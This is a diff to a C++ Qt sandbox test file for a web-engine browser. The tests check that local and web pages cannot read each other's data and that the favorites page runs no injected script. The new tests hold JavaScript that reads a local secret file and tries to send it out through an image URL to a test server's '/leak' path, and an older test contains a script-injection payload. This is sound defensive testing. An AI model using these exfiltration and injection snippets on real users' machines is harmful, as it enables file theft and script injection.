@@ -26,8 +26,7 @@ using WebEngineWait::load;
 using WebEngineWait::Timeout;
 
 // What pages in the panes may reach on this computer. A web page can neither read a local
-// file nor send its pane to one; a local page reads other local files only as far as the
-// engine's settings allow; the favorites page runs no script that a page title or address
+// file nor send its pane to one; a local page reads neither other local files nor web sites; the favorites page runs no script that a page title or address
 // put into it.
 
 namespace {
@@ -126,8 +125,10 @@ private slots:
     void webPageCannotReadALocalFile();
     void webPageCannotSendItsPaneToALocalFile_data();
     void webPageCannotSendItsPaneToALocalFile();
-    void localPageReadsLocalFilesOnlyAsTheSettingsAllow_data();
-    void localPageReadsLocalFilesOnlyAsTheSettingsAllow();
+    void localPageReadsNoWebSiteData_data();
+    void localPageReadsNoWebSiteData();
+    void localPageSendsNoOtherLocalFileToTheWeb_data();
+    void localPageSendsNoOtherLocalFileToTheWeb();
     void favoritesPageRunsNoScriptFromTitleOrAddress();
     void favoriteAddedFromAHostilePageRunsNothing();
     void pageAsksForAPermissionAndIsRefused_data();
@@ -155,7 +156,9 @@ void TestSandbox::initTestCase()
     QVERIFY(m_engine->writePages({
         {"secret.txt", Secret},
         {"picture.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"/>"},
-        {"local.htm", "<!DOCTYPE html><html><head><title>local</title></head><body>locale</body></html>"},
+        {"style.css", "body{color:rgb(1,2,3)}"},
+        {"local.htm", "<!DOCTYPE html><html><head><title>local</title><link rel=\"stylesheet\" href=\"style.css\"></head>"
+                      "<body>locale<img id=\"own\" src=\"picture.svg\"></body></html>"},
     }));
 }
 
@@ -246,19 +249,53 @@ void TestSandbox::webPageCannotSendItsPaneToALocalFile()
     QTRY_VERIFY_WITH_TIMEOUT(pane->locationUrl().startsWith(allowed), Timeout);
 }
 
-void TestSandbox::localPageReadsLocalFilesOnlyAsTheSettingsAllow_data()
+void TestSandbox::localPageReadsNoWebSiteData_data()
 {
     QTest::addColumn<QString>("how");
+    QTest::newRow("fetch") << QStringLiteral("fetch");
+    QTest::newRow("XMLHttpRequest") << QStringLiteral("XMLHttpRequest");
+}
+
+void TestSandbox::localPageReadsNoWebSiteData()
+{
+    QFETCH(QString, how);
+    WebEnginePane *pane = makePane();
+    load(pane, m_engine->path(QStringLiteral("local.htm")));
+    if (QTest::currentTestFailed())
+        return;
+
+    // Never a web site's data; its pictures, as any browser shows.
+    pane->page()->runJavaScript(readScript(how, m_server->url(QStringLiteral("/quote"))));
+    QCOMPARE(readOutcome(pane), QStringLiteral("refused"));
+    pane->page()->runJavaScript(readScript(QStringLiteral("image"), m_server->url(QStringLiteral("/chart.svg"))));
+    QCOMPARE(readOutcome(pane), QStringLiteral("read:image"));
+    // Links to other local pages (the favorites page is one) are followed.
+    pane->page()->runJavaScript(navigationScript(QStringLiteral("link"), fileUrl("secret.txt")));
+    QTRY_COMPARE_WITH_TIMEOUT(pane->locationUrl(), fileUrl("secret.txt"), Timeout);
+}
+
+void TestSandbox::localPageSendsNoOtherLocalFileToTheWeb_data()
+{
+    QTest::addColumn<QString>("read");
     QTest::addColumn<bool>("forceOff");
-    for (const char *how : {"fetch", "XMLHttpRequest"}) {
-        QTest::addRow("%s, as the program sets it", how) << QString::fromLatin1(how) << false;
-        QTest::addRow("%s, file access off", how) << QString::fromLatin1(how) << true;
+    const QString ways[][2] = {
+        {QStringLiteral("fetch"), QStringLiteral("fetch('secret.txt').then(function(r){return r.text();})")},
+        {QStringLiteral("XMLHttpRequest"),
+         QStringLiteral("new Promise(function(ok){var x=new XMLHttpRequest();x.onload=function(){ok(x.responseText);};"
+                        "x.onerror=function(){ok('');};x.open('GET','secret.txt');x.send();})")},
+        {QStringLiteral("frame"),
+         QStringLiteral("new Promise(function(ok){var f=document.createElement('iframe');f.onload=function(){"
+                        "try{ok(f.contentDocument.body.innerText);}catch(e){ok('');}};f.src='secret.txt';document.body.appendChild(f);})")},
+    };
+    for (const auto &[how, read] : ways) {
+        QTest::addRow("%s", qPrintable(how)) << read << false;
+        QTest::addRow("%s, engine's file access off", qPrintable(how)) << read << true;
     }
 }
 
-void TestSandbox::localPageReadsLocalFilesOnlyAsTheSettingsAllow()
+void TestSandbox::localPageSendsNoOtherLocalFileToTheWeb()
 {
-    QFETCH(QString, how);
+    QFETCH(QString, read);
     QFETCH(bool, forceOff);
     WebEnginePane *pane = makePane();
     if (forceOff)
@@ -266,25 +303,19 @@ void TestSandbox::localPageReadsLocalFilesOnlyAsTheSettingsAllow()
     load(pane, m_engine->path(QStringLiteral("local.htm")));
     if (QTest::currentTestFailed())
         return;
-    const bool allowed = pane->page()->settings()->testAttribute(QWebEngineSettings::LocalContentCanAccessFileUrls);
-    qInfo("LocalContentCanAccessFileUrls is %s", allowed ? "on" : "off");
+    m_server->requests.clear();
 
-    pane->page()->runJavaScript(readScript(how, fileUrl("secret.txt")));
-    QCOMPARE(readOutcome(pane), allowed ? QStringLiteral("read:") + QString::fromLatin1(Secret) : QStringLiteral("refused"));
+    // What the page read goes out in a picture's address, which a local page may load.
+    pane->page()->runJavaScript(QStringLiteral("Promise.resolve().then(function(){return %1;}).catch(function(){return '';})"
+                                               ".then(function(t){new Image().src='%2?'+Date.now()+'='+encodeURIComponent(t);});")
+                                    .arg(read, m_server->url(QStringLiteral("/leak"))));
+    QTRY_VERIFY_WITH_TIMEOUT(m_server->requests.filter(QStringLiteral("/leak")).size() == 1, Timeout);
+    QCOMPARE(m_server->requests.filter(QString::fromLatin1(Secret)), QStringList());
 
-    // Never a web site's data, whatever the local setting; its pictures, as any browser shows.
-    pane->page()->runJavaScript(readScript(how, m_server->url(QStringLiteral("/quote"))));
-    QCOMPARE(readOutcome(pane), QStringLiteral("refused"));
-    pane->page()->runJavaScript(readScript(QStringLiteral("image"), m_server->url(QStringLiteral("/chart.svg"))));
-    QCOMPARE(readOutcome(pane), QStringLiteral("read:image"));
-
-    // The same switch decides whether a local page shows its own pictures: turned off, it
-    // refuses them too, which is why the program leaves it on.
-    pane->page()->runJavaScript(readScript(QStringLiteral("image"), fileUrl("picture.svg")));
-    QCOMPARE(readOutcome(pane), allowed ? QStringLiteral("read:image") : QStringLiteral("refused"));
-    // Links to other local pages (the favorites page is one) are followed either way.
-    pane->page()->runJavaScript(navigationScript(QStringLiteral("link"), fileUrl("secret.txt")));
-    QTRY_COMPARE_WITH_TIMEOUT(pane->locationUrl(), fileUrl("secret.txt"), Timeout);
+    // The engine's switch that would keep local files apart also hides a local page's own
+    // pictures and style sheets, on Qt 6.4 and 6.8 alike: that is why it stays on.
+    const QString shown = QStringLiteral("document.getElementById('own').naturalWidth+' '+getComputedStyle(document.body).color");
+    QCOMPARE(evaluate(pane->page(), shown).toString(), forceOff ? QStringLiteral("0 rgb(0, 0, 0)") : QStringLiteral("10 rgb(1, 2, 3)"));
 }
 
 void TestSandbox::favoritesPageRunsNoScriptFromTitleOrAddress()
@@ -333,16 +364,16 @@ void TestSandbox::favoriteAddedFromAHostilePageRunsNothing()
 
     // The favorites file is a relative name: it goes into the working directory.
     const auto [w, upper, lower] = m_engine->showMainWindow();
-    auto *box = w->findChild<QLineEdit *>(QStringLiteral("Text1"));
+    auto *box = w->controls().address;
 
     box->setText(hostile.url(QStringLiteral("/q?a=\"><script>document.title='pwned'</script>")));
-    clickChild(w, "Command11");
+    leftClick(w->controls().upper.go);
     QTRY_COMPARE_WITH_TIMEOUT(upper->locationName(), script, Timeout);
-    clickChild(w, "Command1");
+    leftClick(w->controls().upper.favorite);
     QVERIFY(QFile::exists(favorites()));
 
     box->setText(favorites());
-    clickChild(w, "Command20");
+    leftClick(w->controls().lower.go);
     QTRY_COMPARE_WITH_TIMEOUT(
         evaluate(lower->page(), QStringLiteral("document.readyState=='complete'&&location.pathname")).toString(),
         QUrl::fromLocalFile(favorites()).path(), Timeout);
